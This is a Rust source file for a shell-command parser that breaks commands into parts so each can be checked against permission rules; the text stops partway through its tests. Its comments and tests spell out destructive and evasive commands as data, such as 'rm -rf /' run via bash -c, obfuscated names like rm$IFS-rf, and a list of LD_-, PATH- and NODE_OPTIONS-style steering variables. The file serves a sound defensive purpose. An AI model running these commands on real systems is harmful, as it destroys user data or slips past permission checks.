//! Splitting a shell command into the simple commands it runs, so permission rules can be checked
//! on each: `git status && rm -rf x` is two commands, `$(rm x)` runs `rm`, `FOO=1 env rm x` runs
//! `rm`. Anything this parser does not understand is an error, which the policy treats as "ask":
//! it never guesses in the user's disfavour.
//!
//! Wrappers are looked through to the program they run (`env`, `sudo`, `nohup`, `timeout`,
//! `command`, `exec -a name`, `busybox`, `xargs`, `find -exec`, …), and so are the strings shells
//! and `eval` run (`bash -c -e '…'`, `eval 'rm x'`).
//!
//! When the program a command runs cannot be told from its text, the command is kept with
//! [`SimpleCommand::unknown_program`] saying why, and the policy asks about it instead of taking it
//! for some program no rule names:
//! - its name comes from an expansion: `$R -rf x`, `${R:-rm}`, `$(echo rm)`, backticks,
//!   `rm$IFS-rf`, a glob (`/bin/r?`), a brace expansion (`{rm,-rf,x}`), an escape (`$'\x72m'`);
//! - it is an alias the command itself defines (`alias x=rm; x -rf y`), or a name it binds to a
//!   path (`hash -p /bin/rm x`);
//! - it is a shell running commands it reads from its input (`… | sh`, `bash <(…)`,
//!   `source /dev/stdin`).
//!
//! Arguments may come from expansions too (`rm $FLAGS x`); `may_expand` tells the policy which.

/// One command the shell would run, with assignments and wrappers (`env`, `nohup`, `timeout`, …)
/// stripped.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SimpleCommand {
    pub words: Vec<String>,
    /// It redirects output into a file (`> out.txt`), so it writes even if the program does not.
    pub writes_files: bool,
    /// It runs as another user (`sudo`, `doas`): never allowed without asking.
    pub elevated: bool,
    /// Why the program it runs cannot be known from the text (see the module documentation), if
    /// it cannot: then `words` starts with the word that hides it (`$R`, the `x` of
    /// `alias x=rm; x -rf y`, the `sh` of `… | sh`).
    pub unknown_program: Option<String>,
    /// A variable it is run with (`FOO=1 cmd`, `env FOO=1 cmd`) that makes programs load or run
    /// something else (`GIT_CONFIG_*`, `LD_PRELOAD`, `PATH`, `BASH_ENV`…), if any: a rule that
    /// allows the program does not allow that.
    pub steering_env: Option<String>,
}

/// Variables that make a program load, run or configure something else than its words say.
const STEERING_VARIABLES: &[&str] = &[
    "PATH",
    "BASH_ENV",
    "ENV",
    "SHELLOPTS",
    "BASHOPTS",
    "PS4",
    "PROMPT_COMMAND",
    "IFS",
    "PYTHONPATH",
    "PYTHONSTARTUP",
    "PYTHONHOME",
    "NODE_OPTIONS",
    "NODE_PATH",
    "PERL5OPT",
    "PERL5LIB",
    "RUBYOPT",
    "RUBYLIB",
    "JAVA_TOOL_OPTIONS",
    "EDITOR",
    "VISUAL",
    "PAGER",
    "CARGO_HOME",
    "RUSTC_WRAPPER",
    "RUSTC",
    "CC",
    "CXX",
    "MAKEFLAGS",
];

/// The variable `word` assigns, if it is one of those that steer a program
/// ([`SimpleCommand::steering_env`]): the listed ones, and every `GIT_*`, `LD_*`, `DYLD_*`.
fn steering_variable(word: &str) -> Option<String> {
    if !is_assignment(word) {
        return None;
    }
    let name = word.split_once('=')?.0.trim_end_matches('+');
    (STEERING_VARIABLES.contains(&name)
        || ["GIT_", "LD_", "DYLD_"].iter().any(|p| name.starts_with(p)))
    .then(|| name.to_string())
}

/// Shell syntax a command uses that is not followed here, so its parts cannot be checked
/// against the user's rules (shown as "the command uses {it}, which Codewright cannot check part
/// by part").
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum Unchecked {
    #[error("commands nested too deeply")]
    TooDeep,
    #[error("function definitions")]
    FunctionDefinition,
    #[error("a redirection without a target")]
    RedirectionWithoutTarget,
    /// A compound command (`for`, `case`, `[[`, `f()`…), named as written.
    #[error("`{0}` blocks")]
    Block(String),
    /// A wrapper's option not known to be harmless: one that changes what runs in a way not
    /// followed (`env -S`), or one not known at all.
    #[error("the `{0}` option")]
    Option(String),
    #[error("here-documents (<<)")]
    HereDocument,
    /// The quote left open (`'`, `"`, `$'`, a backtick).
    #[error("an unclosed {0} quote")]
    UnclosedQuote(&'static str),
    #[error("an unclosed $(( arithmetic")]
    UnclosedArithmetic,
    #[error("commands inside $(( arithmetic")]
    CommandsInArithmetic,
    #[error("an unclosed $( or (")]
    UnclosedSubstitution,
}

/// The simple commands in `command`, in order (nested ones — `$(…)`, backticks, `bash -c` —
/// included). `Err` says which syntax could not be checked.
pub fn parse_command(command: &str) -> Result<Vec<SimpleCommand>, Unchecked> {
    let mut parsed = Parsed::default();
    parse_into(command, &mut parsed, 0)?;
    Ok(parsed.commands)
}

/// Whether the shell may replace part of `word` before running it, so what the program receives
/// cannot be read from the text: a variable or substitution (`$X`, `${X:-y}`, `$(…)`; backticks
/// are left by the parser as `$(…)`), a brace expansion (`{a,b}`, `{1..3}`) or an escape sequence
/// (`$'\x72'`, whose backslashes the parser keeps). Quoting is not told apart: `'$5'` counts too.
pub(crate) fn may_expand(word: &str) -> bool {
    word.contains(['$', '\\']) || has_brace_expansion(word)
}

fn has_brace_expansion(word: &str) -> bool {
    match (word.find('{'), word.rfind('}')) {
        (Some(open), Some(close)) if open < close => {
            let inside = &word[open + 1..close];
            inside.contains(',') || inside.contains("..")
        }
        _ => false,
    }
}

/// Whether `word` is a glob the shell would replace by matching file names (`/bin/r?`, `r[m]`;
/// `[` alone is the `test` program).
fn is_glob(word: &str) -> bool {
    word.contains(['*', '?']) || word.find('[').is_some_and(|i| word[i..].contains(']'))
}

const MAX_DEPTH: usize = 8;

/// What has been parsed so far.
#[derive(Default)]
struct Parsed {
    commands: Vec<SimpleCommand>,
    /// Names the command has defined as aliases (`alias x=rm`) or bound to a path
    /// (`hash -p /bin/rm x`): the program they run is not their name.
    aliases: Vec<String>,
}

fn parse_into(src: &str, parsed: &mut Parsed, depth: usize) -> Result<(), Unchecked> {
    if depth > MAX_DEPTH {
        return Err(Unchecked::TooDeep);
    }
    let mut lexer = Lexer {
        chars: src.chars().collect(),
        pos: 0,
        nested: Vec::new(),
    };
    let mut words: Vec<String> = Vec::new();
    let mut writes = false;
    let mut expect_target: Option<bool> = None; // Some(is_output) after a redirection operator
    loop {
        let token = lexer.next_token()?;
        match token {
            Token::Word(word) => {
                if let Some(output) = expect_target.take() {
                    if output && !is_harmless_target(&word) {
                        writes = true;
                    }
                } else {
                    words.push(word);
                }
            }
            Token::Redirect { output, has_target } => {
                if has_target {
                    expect_target = Some(output);
                }
            }
            Token::Separator('(') if !words.is_empty() => {
                return Err(Unchecked::FunctionDefinition);
            }
            Token::Separator(_) | Token::End => {
                if expect_target.is_some() {
                    return Err(Unchecked::RedirectionWithoutTarget);
                }
                finish(std::mem::take(&mut words), writes, parsed, depth)?;
                writes = false;
                if matches!(token, Token::End) {
                    break;
                }
            }
        }
    }
    for inner in lexer.nested {
        parse_into(&inner, parsed, depth + 1)?;
    }
    Ok(())
}

/// Output redirected here writes nothing the user cares about.
fn is_harmless_target(word: &str) -> bool {
    word == "/dev/null" || word == "/dev/stdout" || word == "/dev/stderr"
}

const KEYWORDS_TO_DROP: &[&str] = &[
    "then", "else", "elif", "do", "if", "while", "until", "!", "{", "}", "done", "fi", "esac",
];
const UNSUPPORTED_KEYWORDS: &[&str] = &["for", "case", "select", "function", "coproc", "[[", "(("];

/// Why a shell's commands are unknown when it reads them from its input.
const READS_INPUT: &str = "it is a shell running the commands it reads from its input";

/// Normalizes one simple command and appends it (and what it wraps) to `parsed`.
fn finish(
    mut words: Vec<String>,
    writes_files: bool,
    parsed: &mut Parsed,
    depth: usize,
) -> Result<(), Unchecked> {
    let mut elevated = false;
    let mut unknown_program = None;
    let mut steering_env = None;
    let start = parsed.commands.len();
    // What a sudo'd command runs (`sudo sh -c '…'`, `sudo find -exec …`) runs elevated too.
    let elevate = |commands: &mut Vec<SimpleCommand>, elevated: bool| {
        if elevated {
            commands[start..].iter_mut().for_each(|c| c.elevated = true);
        }
    };
    loop {
        while words
            .first()
            .is_some_and(|w| KEYWORDS_TO_DROP.contains(&w.as_str()))
        {
            words.remove(0);
        }
        if let Some(first) = words.first() {
            if UNSUPPORTED_KEYWORDS.contains(&first.as_str()) || first.ends_with("()") {
                return Err(Unchecked::Block(first.clone()));
            }
        }
        while words.first().is_some_and(|w| is_assignment(w)) {
            steering_env = steering_env.or_else(|| steering_variable(&words[0]));
            words.remove(0);
        }
        let Some(first) = words.first() else {
            if writes_files {
                parsed.commands.push(SimpleCommand {
                    words,
                    writes_files,
                    elevated,
                    unknown_program: None,
                    steering_env,
                });
            }
            return Ok(());
        };
        // Checked at every wrapper level: `nohup $R`, `sudo x` after `alias x=rm`.
        if may_expand(first) || is_glob(first) {
            unknown_program = Some(format!(
                "the program's name `{first}` comes from a variable or another expansion"
            ));
            break;
        }
        if parsed.aliases.contains(first) {
            unknown_program = Some(format!("`{first}` is an alias the command defines"));
            break;
        }
        match program_name(first) {
            "env" => {
                // (Its assignments, whichever come before the command.)
                steering_env =
                    steering_env.or_else(|| words[1..].iter().find_map(|w| steering_variable(w)));
                words = strip_options(&words[1..], &ENV)?
            }
            "command" | "builtin" | "exec" | "nohup" | "setsid" | "busybox" | "toybox" => {
                if words.get(1).is_some_and(|w| w == "-v" || w == "-V") {
                    break;
                }
                // `exec -a name rm` runs `rm` (as `name`).
                words = strip_options(&words[1..], &RUNNERS)?;
            }
            "sudo" | "doas" => {
                elevated = true;
                words = strip_options(&words[1..], &SUDO)?
            }
            "time" => words = strip_options(&words[1..], &TIME)?,
            "nice" => words = strip_options(&words[1..], &NICE)?,
            "ionice" => words = strip_options(&words[1..], &IONICE)?,
            "stdbuf" => words = strip_options(&words[1..], &STDBUF)?,
            "timeout" => {
                let mut rest = strip_options(&words[1..], &TIMEOUT)?;
                if !rest.is_empty() {
                    rest.remove(0); // the duration
                }
                words = rest;
            }
            "xargs" => words = strip_options(&words[1..], &XARGS)?,
            // They run a command given to them in a form not followed here.
            "trap" | "flock" | "watch" | "script" | "su" | "runuser" | "taskset" | "chrt"
            | "unshare" | "nsenter" | "chroot" | "ssh" | "strace" | "parallel" | "systemd-run"
            | "firejail" => {
                unknown_program = Some(format!(
                    "`{first}` runs a command given to it, which cannot be checked against your rules"
                ));
                break;
            }
            "sh" | "bash" | "zsh" | "dash" | "ksh" | "ash" | "mksh" => {
                match shell_input(&words[1..]) {
                    ShellInput::String(script) => {
                        parse_into(script, parsed, depth + 1)?;
                        elevate(&mut parsed.commands, elevated);
                        return Ok(());
                    }
                    ShellInput::Input => {
                        unknown_program = Some(READS_INPUT.into());
                        break;
                    }
                    ShellInput::File => break,
                }
            }
            "source" | "." => {
                if words.get(1).is_some_and(|file| reads_input(file)) {
                    unknown_program = Some(READS_INPUT.into());
                }
                break;
            }
            "eval" => {
                parse_into(&words[1..].join(" "), parsed, depth + 1)?;
                elevate(&mut parsed.commands, elevated);
                return Ok(());
            }
            "find" => {
                let mut find_words = Vec::new();
                let mut i = 0;
                let mut find_writes = writes_files;
                while i < words.len() {
                    let w = words[i].as_str();
                    if matches!(w, "-exec" | "-execdir" | "-ok" | "-okdir") {
                        // Ends at `;`, or at `+` right after `{}` (elsewhere `+` is an argument).
                        let ends = |j: &usize| {
                            words[*j] == ";" || (words[*j] == "+" && words[*j - 1] == "{}")
                        };
                        let end = (i + 1..words.len()).find(ends).unwrap_or(words.len());
                        finish(words[i + 1..end].to_vec(), false, parsed, depth)?;
                        i = end + 1;
                        continue;
                    }
                    if w == "-delete" || w.starts_with("-fprint") || w == "-fls" {
                        find_writes = true;
                    }
                    find_words.push(words[i].clone());
                    i += 1;
                }
                elevate(&mut parsed.commands, elevated);
                parsed.commands.push(SimpleCommand {
                    words: find_words,
                    writes_files: find_writes,
                    elevated,
                    unknown_program: None,
                    steering_env,
                });
                return Ok(());
            }
            _ => break,
        }
    }
    if unknown_program.is_none() {
        record_aliases(&words, &mut parsed.aliases);
    }
    if !words.is_empty() || writes_files {
        parsed.commands.push(SimpleCommand {
            words,
            writes_files,
            elevated,
            unknown_program,
            steering_env,
        });
    }
    Ok(())
}

/// Remembers the names `alias x=…` defines and `hash -p /path x` binds, for the commands after
/// them. (Aliases are kept for the whole command, including subshells: a name that might be an
/// alias is treated as one.)
fn record_aliases(words: &[String], aliases: &mut Vec<String>) {
    let options_end = words
        .iter()
        .skip(1)
        .position(|w| !w.starts_with('-'))
        .map_or(words.len(), |p| p + 1);
    match words.first().map(|w| program_name(w)) {
        Some("alias") => aliases.extend(
            words[options_end..]
                .iter()
                .filter_map(|w| w.split_once('='))
                .map(|(name, _)| name.to_string()),
        ),
        // `hash -p /bin/rm x y` (or `-p/bin/rm x`): the names after the path. The path itself is
        // taken as a name too, which only makes it unknown.
        Some("hash") if words[1..options_end].iter().any(|w| w.contains('p')) => {
            aliases.extend(words[options_end..].iter().cloned())
        }
        _ => {}
    }
}

/// What a shell is told to run.
enum ShellInput<'a> {
    /// `bash -c 'make test'`: a command string.
    String(&'a str),
    /// `… | sh`, `bash -s`, `bash <(…)`, `bash /dev/stdin`: commands read from input.
    Input,
    /// Anything else: a script file (`bash build.sh`), or `-c` without its string.
    File,
}

/// Reads a shell's arguments as bash does: options first (`-c` may be anywhere among them,
/// `bash -c -e 'make'`, `bash -o pipefail -c 'make'`), then the command string or script file.
fn shell_input(args: &[String]) -> ShellInput<'_> {
    let (mut string, mut stdin) = (false, false);
    let mut i = 0;
    while let Some(w) = args.get(i).map(String::as_str) {
        if w == "--" || w == "-" {
            i += 1;
            break;
        }
        if !(w.starts_with('-') || w.starts_with('+')) {
            break;
        }
        if w.starts_with("--") {
            i += if matches!(w, "--rcfile" | "--init-file") {
                2
            } else {
                1
            };
            continue;
        }
        string |= w.starts_with('-') && w.contains('c');
        stdin |= w.starts_with('-') && w.contains('s');
        // `-o pipefail`, `-O extglob`, `-eo pipefail`, `-oc pipefail`: each `o` or `O` in the
        // group takes the next word as its value.
        i += 1 + w.chars().filter(|c| matches!(c, 'o' | 'O')).count();
    }
    match args.get(i) {
        Some(script) if string => ShellInput::String(script.as_str()),
        None if string => ShellInput::File,
        Some(file) if !stdin && !reads_input(file) => ShellInput::File,
        _ => ShellInput::Input,
    }
}

/// A script "file" that is really input: a process substitution, stdin, a pipe's descriptor.
fn reads_input(file: &str) -> bool {
    file == "<(…)" || file.starts_with("/dev/") || file.starts_with("/proc/")
}

/// `/usr/bin/env` runs `env`.
pub(crate) fn program_name(word: &str) -> &str {
    word.rsplit('/').next().unwrap_or(word)
}

fn is_assignment(word: &str) -> bool {
    match word.split_once('=') {
        Some((name, _)) => {
            let name = name.strip_suffix('+').unwrap_or(name);
            !name.is_empty()
                && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
                && !name.starts_with(|c: char| c.is_ascii_digit())
        }
        None => false,
    }
}

const ENV: Options = Options {
    valued: &["-u", "--unset", "-C", "--chdir"],
    optional: &["--block-signal", "--default-signal", "--ignore-signal"],
    flags: &[
        "-i",
        "--ignore-environment",
        "-0",
        "--null",
        "-v",
        "--debug",
        "--list-signal-handling",
    ],
    unsupported: &["-S", "--split-string", "-a", "--argv0"],
};
/// `command`, `builtin`, `exec`, `nohup`, `setsid`, `busybox`, `toybox`.
const RUNNERS: Options = Options {
    valued: &["-a"],
    optional: &[],
    flags: &["-p", "-c", "-l", "-f", "--fork", "-w", "--wait", "--ctty"],
    unsupported: &[],
};
const SUDO: Options = Options {
    valued: &[
        "-u",
        "--user",
        "-g",
        "--group",
        "-C",
        "--close-from",
        "-D",
        "--chdir",
        "-h",
        "--host",
        "-p",
        "--prompt",
        "-r",
        "--role",
        "-t",
        "--type",
        "-T",
        "--command-timeout",
        "-U",
        "--other-user",
        "-R",
        "--chroot",
        "-c",
        "--login-class",
        "-a",
    ],
    optional: &["--preserve-env"],
    flags: &[
        "-A",
        "--askpass",
        "-b",
        "--background",
        "-B",
        "--bell",
        "-E",
        "-H",
        "--set-home",
        "-k",
        "--reset-timestamp",
        "-K",
        "--remove-timestamp",
        "-n",
        "--non-interactive",
        "-N",
        "--no-update",
        "-P",
        "--preserve-groups",
        "-S",
        "--stdin",
    ],
    unsupported: &[
        "-s", "--shell", "-i", "--login", "-e", "--edit", "-l", "--list", "-v",
    ],
};
const TIME: Options = Options {
    valued: &["-f", "--format", "-o", "--output"],
    optional: &[],
    flags: &[
        "-p",
        "--portability",
        "-v",
        "--verbose",
        "-a",
        "--append",
        "-q",
        "--quiet",
    ],
    unsupported: &[],
};
const NICE: Options = Options {
    valued: &["-n", "--adjustment"],
    optional: &[],
    flags: &[],
    unsupported: &[],
};
const IONICE: Options = Options {
    valued: &[
        "-c",
        "--class",
        "-n",
        "--classdata",
        "-p",
        "--pid",
        "-P",
        "--pgid",
        "-u",
        "--uid",
    ],
    optional: &[],
    flags: &["-t", "--ignore"],
    unsupported: &[],
};
const STDBUF: Options = Options {
    valued: &["-i", "--input", "-o", "--output", "-e", "--error"],
    optional: &[],
    flags: &[],
    unsupported: &[],
};
const TIMEOUT: Options = Options {
    valued: &["-s", "--signal", "-k", "--kill-after"],
    optional: &[],
    flags: &[
        "-f",
        "--foreground",
        "-p",
        "--preserve-status",
        "-v",
        "--verbose",
    ],
    unsupported: &[],
};
const XARGS: Options = Options {
    valued: &[
        "-I",
        "-n",
        "--max-args",
        "-P",
        "--max-procs",
        "-d",
        "--delimiter",
        "-L",
        "--max-lines",
        "-s",
        "--max-chars",
        "-E",
        "-a",
        "--arg-file",
        "--process-slot-var",
    ],
    // `-i`, `-e` and `-l` take a value only when attached (`-i{}`): `xargs -i rm {}` runs `rm`.
    optional: &["-i", "--replace", "-e", "--eof", "-l"],
    flags: &[
        "-0",
        "--null",
        "-r",
        "--no-run-if-empty",
        "-t",
        "--verbose",
        "-p",
        "--interactive",
        "-x",
        "--exit",
        "-o",
        "--open-tty",
    ],
    unsupported: &["--show-limits"],
};

/// The options a wrapper (`env`, `sudo`, `xargs`, …) accepts before the command it runs, as
/// `-x` or `--long`. Read as getopt does: short options may be grouped (`-0I {}`), a value may be
/// attached (`-n5`, `--signal=KILL`) or the next word, a long option may be abbreviated. An
/// option not listed, or an `unsupported` one, makes the command uncheckable: guessing whether
/// it takes a value could make the value look like the program.
struct Options<'a> {
    /// Take a value.
    valued: &'a [&'a str],
    /// Take a value only when it is attached (`xargs -i{}`, `--replace=X`).
    optional: &'a [&'a str],
    /// Take no value.
    flags: &'a [&'a str],
    /// Change what runs in ways not followed here (`env -S 'rm -rf x'`).
    unsupported: &'a [&'a str],
}

impl Options<'_> {
    /// What `option` (`-x` or `--long`, abbreviations resolved) is: valued, optional, flag.
    fn kind(&self, option: &str) -> Result<OptionKind, Unchecked> {
        let lists = [
            (self.valued, OptionKind::Valued),
            (self.optional, OptionKind::Optional),
            (self.flags, OptionKind::Flag),
            (self.unsupported, OptionKind::Unsupported),
        ];
        let exact = lists
            .iter()
            .find(|(list, _)| list.contains(&option))
            .map(|(_, kind)| *kind);
        let kind = exact.or_else(|| {
            // A unique abbreviation of a long option.
            let mut found = lists.iter().flat_map(|(list, kind)| {
                list.iter()
                    .filter(|o| option.starts_with("--") && o.starts_with(option))
                    .map(move |_| *kind)
            });
            let first = found.next();
            first.filter(|_| found.next().is_none())
        });
        match kind {
            Some(OptionKind::Unsupported) | None => Err(Unchecked::Option(option.to_string())),
            Some(kind) => Ok(kind),
        }
    }
}

#[derive(Clone, Copy, PartialEq)]
enum OptionKind {
    Valued,
    Optional,
    Flag,
    Unsupported,
}

/// Drops the leading options of a wrapper (with their values) and assignments (`env FOO=1`),
/// returning the wrapped command. An option that cannot be read for sure is an error.
fn strip_options(words: &[String], options: &Options) -> Result<Vec<String>, Unchecked> {
    let mut i = 0;
    while i < words.len() {
        let w = words[i].as_str();
        i += 1;
        if w == "--" {
            break;
        }
        // `env - rm`: `-` is `-i`.
        if w == "-" {
            continue;
        }
        if let Some(long) = w.strip_prefix("--") {
            let (name, attached) = match long.split_once('=') {
                Some((name, _)) => (format!("--{name}"), true),
                None => (w.to_string(), false),
            };
            if options.kind(&name)? == OptionKind::Valued && !attached {
                i += 1;
            }
        } else if let Some(group) = w.strip_prefix('-').filter(|g| !g.is_empty()) {
            // `nice -5`: a number is the adjustment.
            if group.chars().all(|c| c.is_ascii_digit()) {
                continue;
            }
            for (at, letter) in group.char_indices() {
                let rest = &group[at + letter.len_utf8()..];
                match options.kind(&format!("-{letter}"))? {
                    OptionKind::Flag => {}
                    // The rest of the group is the value, if any.
                    OptionKind::Optional => break,
                    OptionKind::Valued => {
                        if rest.is_empty() {
                            i += 1;
                        }
                        break;
                    }
                    OptionKind::Unsupported => unreachable!("kind() refuses it"),
                }
            }
        } else if is_assignment(w) {
            continue;
        } else {
            i -= 1;
            break;
        }
    }
    Ok(words.get(i..).unwrap_or_default().to_vec())
}

enum Token {
    Word(String),
    /// A redirection operator; `has_target` when a file name follows (`>&2` has none).
    Redirect {
        output: bool,
        has_target: bool,
    },
    /// `;`, `&&`, `|`, a newline, `(`, … (by its first character).
    Separator(char),
    End,
}

struct Lexer {
    chars: Vec<char>,
    pos: usize,
    /// Sources of `$(…)`, backticks and `<(…)` met so far, parsed after this level.
    nested: Vec<String>,
}

impl Lexer {
    fn peek(&self, ahead: usize) -> Option<char> {
        self.chars.get(self.pos + ahead).copied()
    }

    fn next_token(&mut self) -> Result<Token, Unchecked> {
        // Skip blanks and comments.
        loop {
            match self.peek(0) {
                Some(' ' | '\t') => self.pos += 1,
                Some('\\') if self.peek(1) == Some('\n') => self.pos += 2,
                Some('#') => {
                    while self.peek(0).is_some_and(|c| c != '\n') {
                        self.pos += 1;
                    }
                }
                _ => break,
            }
        }
        let Some(c) = self.peek(0) else {
            return Ok(Token::End);
        };
        match c {
            '\n' | ';' | '&' | '|' | '(' | ')' => {
                if c == '&' && self.peek(1) == Some('>') {
                    self.pos += if self.peek(2) == Some('>') { 3 } else { 2 };
                    return Ok(Token::Redirect {
                        output: true,
                        has_target: true,
                    });
                }
                self.pos += 1;
                // `&&`, `||`, `|&`, `;;`
                if matches!(
                    (c, self.peek(0)),
                    ('&', Some('&')) | ('|', Some('|' | '&')) | (';', Some(';'))
                ) {
                    self.pos += 1;
                }
                return Ok(Token::Separator(c));
            }
            '<' | '>' => return self.redirect(),
            _ => {}
        }
        // A file-descriptor number right before a redirection: `2>`.
        if c.is_ascii_digit() {
            let mut end = self.pos;
            while self.chars.get(end).is_some_and(|c| c.is_ascii_digit()) {
                end += 1;
            }
            if matches!(self.chars.get(end), Some('<' | '>')) {
                self.pos = end;
                return self.redirect();
            }
        }
        self.word().map(Token::Word)
    }

    fn redirect(&mut self) -> Result<Token, Unchecked> {
        let c = self.peek(0).expect("called on < or >");
        if self.peek(1) == Some('(') {
            // Process substitution `<(cmd)` / `>(cmd)`: runs a command.
            self.pos += 2;
            let inner = self.until_close_paren()?;
            self.nested.push(inner);
            return Ok(Token::Word("<(…)".into()));
        }
        self.pos += 1;
        if c == '<' {
            match self.peek(0) {
                Some('<') if self.peek(1) == Some('<') => {
                    self.pos += 2; // here-string: its word is input
                }
                Some('<') => return Err(Unchecked::HereDocument),
                Some('>') => {
                    self.pos += 1;
                    return Ok(Token::Redirect {
                        output: true,
                        has_target: true,
                    });
                }
                Some('&') => {
                    self.pos += 1;
                    return Ok(Token::Redirect {
                        output: false,
                        has_target: true,
                    });
                }
                _ => {}
            }
            return Ok(Token::Redirect {
                output: false,
                has_target: true,
            });
        }
        if matches!(self.peek(0), Some('>' | '|')) {
            self.pos += 1;
        }
        if self.peek(0) == Some('&') {
            // `>&2`, `2>&1`, `>&-`: duplicates a descriptor, writes no file.
            self.pos += 1;
            let mut target = String::new();
            while let Some(d) = self.peek(0).filter(|c| c.is_ascii_digit() || *c == '-') {
                target.push(d);
                self.pos += 1;
            }
            return Ok(Token::Redirect {
                output: true,
                has_target: target.is_empty(),
            });
        }
        Ok(Token::Redirect {
            output: true,
            has_target: true,
        })
    }

    /// Reads one word, resolving quotes and escapes; command substitutions inside it are recorded
    /// in `nested` and left in the word as `$(…)`.
    fn word(&mut self) -> Result<String, Unchecked> {
        let mut word = String::new();
        while let Some(c) = self.peek(0) {
            match c {
                ' ' | '\t' | '\n' | ';' | '&' | '|' | '(' | ')' | '<' | '>' => break,
                '\'' => {
                    self.pos += 1;
                    loop {
                        match self.peek(0) {
                            None => return Err(Unchecked::UnclosedQuote("'")),
                            Some('\'') => break,
                            Some(ch) => word.push(ch),
                        }
                        self.pos += 1;
                    }
                    self.pos += 1;
                }
                '"' => {
                    self.pos += 1;
                    loop {
                        match self.peek(0) {
                            None => return Err(Unchecked::UnclosedQuote("\"")),
                            Some('"') => break,
                            Some('\\') => {
                                if let Some(next) = self.peek(1) {
                                    if !matches!(next, '"' | '\\' | '$' | '`' | '\n') {
                                        word.push('\\');
                                    }
                                    if next != '\n' {
                                        word.push(next);
                                    }
                                }
                                self.pos += 1;
                            }
                            Some('$') if self.peek(1) == Some('(') => {
                                self.substitution(&mut word)?;
                                continue;
                            }
                            Some('`') => {
                                self.backtick(&mut word)?;
                                continue;
                            }
                            Some(ch) => word.push(ch),
                        }
                        self.pos += 1;
                    }
                    self.pos += 1;
                }
                '\\' => {
                    if let Some(next) = self.peek(1) {
                        if next != '\n' {
                            word.push(next);
                        }
                    }
                    self.pos += 2;
                }
                '$' if self.peek(1) == Some('(') => self.substitution(&mut word)?,
                '$' if self.peek(1) == Some('\'') => {
                    self.pos += 2;
                    loop {
                        match self.peek(0) {
                            None => return Err(Unchecked::UnclosedQuote("$'")),
                            Some('\'') => break,
                            Some('\\') => {
                                word.push('\\');
                                if let Some(n) = self.peek(1) {
                                    word.push(n);
                                }
                                self.pos += 1;
                            }
                            Some(ch) => word.push(ch),
                        }
                        self.pos += 1;
                    }
                    self.pos += 1;
                }
                '`' => self.backtick(&mut word)?,
                _ => {
                    word.push(c);
                    self.pos += 1;
                }
            }
        }
        Ok(word)
    }

    /// At `$(`: arithmetic `$((…))` stays in the word; a command substitution is recorded.
    fn substitution(&mut self, word: &mut String) -> Result<(), Unchecked> {
        self.pos += 2;
        if self.peek(0) == Some('(') {
            self.pos += 1;
            let inner = self.until_close_paren()?;
            if self.peek(0) != Some(')') {
                return Err(Unchecked::UnclosedArithmetic);
            }
            self.pos += 1;
            // Arithmetic may hold commands of its own (`$(( $(rm x) + 1 ))`): not checked.
            if inner.contains("$(") || inner.contains('`') {
                return Err(Unchecked::CommandsInArithmetic);
            }
            word.push_str(&format!("$(({inner}))"));
            return Ok(());
        }
        let inner = self.until_close_paren()?;
        self.nested.push(inner);
        word.push_str("$(…)");
        Ok(())
    }

    fn backtick(&mut self, word: &mut String) -> Result<(), Unchecked> {
        self.pos += 1;
        let mut inner = String::new();
        loop {
            match self.peek(0) {
                None => return Err(Unchecked::UnclosedQuote("`")),
                Some('`') => break,
                Some('\\') if matches!(self.peek(1), Some('`' | '\\' | '$')) => {
                    inner.push(self.peek(1).expect("checked"));
                    self.pos += 1;
                }
                Some(ch) => inner.push(ch),
            }
            self.pos += 1;
        }
        self.pos += 1;
        self.nested.push(inner);
        word.push_str("$(…)");
        Ok(())
    }

    /// Reads up to the `)` that closes the one just consumed (respecting quotes and nesting) and
    /// returns what is between.
    fn until_close_paren(&mut self) -> Result<String, Unchecked> {
        let start = self.pos;
        let mut depth = 1;
        while let Some(c) = self.peek(0) {
            match c {
                '\\' => self.pos += 1,
                '\'' => {
                    self.pos += 1;
                    while self.peek(0).is_some_and(|c| c != '\'') {
                        self.pos += 1;
                    }
                }
                '"' => {
                    self.pos += 1;
                    while let Some(c) = self.peek(0) {
                        if c == '\\' {
                            self.pos += 1;
                        } else if c == '"' {
                            break;
                        }
                        self.pos += 1;
                    }
                }
                '(' => depth += 1,
                ')' => {
                    depth -= 1;
                    if depth == 0 {
                        let inner: String = self.chars[start..self.pos].iter().collect();
                        self.pos += 1;
                        return Ok(inner);
                    }
                }
                _ => {}
            }
            self.pos += 1;
        }
        Err(Unchecked::UnclosedSubstitution)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn words(cmd: &str) -> Vec<String> {
        parse_command(cmd)
            .unwrap()
            .into_iter()
            .map(|c| c.words.join(" "))
            .collect()
    }

    #[test]
    fn splits_compound_commands_and_strips_wrappers() {
        let cases: &[(&str, &[&str])] = &[
            ("ls -la", &["ls -la"]),
            ("FOO=1 rm -rf x", &["rm -rf x"]),
            ("FOO=1 BAR='a b' env -u X BAZ=2 rm -rf x", &["rm -rf x"]),
            ("git status && rm -rf x", &["git status", "rm -rf x"]),
            ("a; b || c | d & e", &["a", "b", "c", "d", "e"]),
            ("echo $(rm x)", &["echo $(…)", "rm x"]),
            (
                "echo \"in $(rm -r y) quotes\"",
                &["echo in $(…) quotes", "rm -r y"],
            ),
            ("echo `rm z`", &["echo $(…)", "rm z"]),
            ("diff <(sort a) b", &["diff <(…) b", "sort a"]),
            ("bash -c 'rm -rf /'", &["rm -rf /"]),
            ("bash -lc \"git push\"", &["git push"]),
            ("timeout 5 nohup nice -n 5 cargo test", &["cargo test"]),
            ("/usr/bin/env git log", &["git log"]),
            (
                "find . -name '*.tmp' -exec rm {} ;",
                &["rm {}", "find . -name *.tmp"],
            ),
            ("ls | xargs -n 1 rm", &["ls", "rm"]),
            ("if true; then rm x; fi", &["true", "rm x"]),
            ("(cd sub && make)", &["cd sub", "make"]),
            ("echo $((1 + 2))", &["echo $((1 + 2))"]),
            (
                "cargo test 2>&1 | tail -n 20",
                &["cargo test", "tail -n 20"],
            ),
            ("ls # rm -rf comment", &["ls"]),
            ("eval 'rm q'", &["rm q"]),
        ];
        for (cmd, expected) in cases {
            assert_eq!(&words(cmd), expected, "{cmd}");
        }
    }

    #[test]
    fn wrappers_and_shells_are_looked_through() {
        let cases: &[(&str, &[&str])] = &[
            ("exec -a ls rm -rf x", &["rm -rf x"]),
            ("command -p rm -rf x", &["rm -rf x"]),
